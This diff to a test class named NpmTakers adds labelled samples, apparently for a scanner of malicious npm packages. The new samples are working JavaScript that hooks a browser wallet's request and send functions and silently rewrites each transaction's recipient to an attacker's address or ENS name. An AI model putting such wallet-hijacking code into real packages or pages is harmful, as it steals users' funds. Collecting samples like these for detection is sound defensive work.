@@ -109,6 +109,29 @@ final class NpmTakers {
                 }
                 """),
         Sample.required(
+            "a payee is exchanged by functions that are defined in the place of a wallet's",
+            """
+            const mine = ['0xfc4a4858bafef54d1b1d7697bfb5c52f4c166976'];
+            const take = (wallet) => ['request', 'send', 'sendAsync'].forEach((name) => {
+              const before = wallet[name];
+              Object.defineProperty(wallet, name, { value: async function (...args) {
+                const tx = args[0].params[0];
+                tx.to = mine[0];
+                return before.apply(this, args);
+              } });
+            });
+            if (typeof window !== 'undefined') take(window.ethereum);
+            """),
+        Sample.required(
+            "a payee is exchanged by a name for one, by functions that a wallet is filled with",
+            """
+            const before = window.ethereum.request;
+            Object.assign(window.ethereum, { request: async function (...args) {
+              args[0].params[0].to = 'theirs.eth';
+              return before.apply(this, args);
+            } });
+            """),
+        Sample.required(
             "a function that is given keys",
             """
             const { Keypair } = require('@solana/web3.js');
